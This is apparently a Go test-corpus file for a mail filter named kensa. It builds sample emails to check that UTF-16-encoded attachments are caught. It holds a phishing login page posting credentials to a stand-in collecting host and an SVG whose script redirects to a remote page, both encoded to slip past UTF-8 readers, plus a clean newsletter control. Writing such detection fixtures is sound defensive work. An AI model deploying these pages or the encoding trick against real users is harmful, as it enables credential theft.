package corpus

import (
	"github.com/kensa-milter/kensa/internal/cryptkeys"
	"github.com/kensa-milter/kensa/policy"
)

// Pages saved as UTF-16 with a byte order mark: Chromium decodes them and
// shows their forms and runs their scripts as any page's (unpack's
// TestUTF16PageInChromium), while a reader of UTF-8 sees every other byte
// a NUL. Kensa reads them again as UTF-8, as a member under the file's own
// name.

func utf16Cases() []officeCase {
	login := "<!DOCTYPE html>\r\n<html><head><meta charset=\"utf-16\"><title>Sign in</title></head><body><h2>Mailbox</h2><p>Sign in to read your remittance advice.</p>\r\n" +
		"<form method=\"post\" action=\"https://collect.example.net/owa/auth.php\"><input type=\"email\" name=\"login\"><input type=\"password\" name=\"passwd\"><button>Sign in</button></form>\r\n</body></html>\r\n"
	svg := "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"400\" height=\"100\"><text x=\"10\" y=\"50\">Loading your document...</text>\r\n" +
		"<script>window.location.replace(\"https://landing.example.net/doc/\");</script></svg>\r\n"
	return []officeCase{
		{name: "html-utf16-phish", about: "HTML login page saved as UTF-16LE with its byte order mark, posting to a collecting host",
			action: policy.Quarantine, subject: "Remittance advice", body: "Open the attached remittance advice.\n", ctype: "text/html", file: "Remittance_Advice.html",
			data: append([]byte("\xff\xfe"), cryptkeys.UTF16LE(login)...), wants: []relWant{{"heuristic", "html-credential-form", "/Remittance_Advice.html"}}},
		{name: "svg-utf16-redirect", about: "SVG saved as UTF-16BE with its byte order mark, whose script sends the window to a remote page",
			action: policy.Quarantine, subject: "Shared document", body: "You have received a document.\n", ctype: "image/svg+xml", file: "Document.svg",
			data: append([]byte("\xfe\xff"), cryptkeys.UTF16BE(svg)...), wants: []relWant{{"heuristic", "svg-script", "/Document.svg"}, {"heuristic", "html-redirect-attachment", "/Document.svg"}}},
	}
}

// utf16Clean: a newsletter page saved as UTF-16LE, as Notepad's "Unicode"
// writes it.
func utf16Clean() []Sample {
	page := "<html><head><title>November</title></head><body><h1>November newsletter</h1><p>The beach project moved on this month: new fittings and a second pier.</p>\r\n" +
		"<p><a href=\"https://www.example.com/news/november\">Read the whole story</a></p></body></html>\r\n"
	return []Sample{build(Sample{Name: "html-utf16-newsletter", Clean: true, About: "a newsletter page saved as UTF-16LE with its byte order mark: links to the sender's site"},
		mail{subject: "November newsletter", root: multipart("mixed", text("The newsletter as a page.\n"),
			attach("text/html", "newsletter-november.html", append([]byte("\xff\xfe"), cryptkeys.UTF16LE(page)...)))})}
}
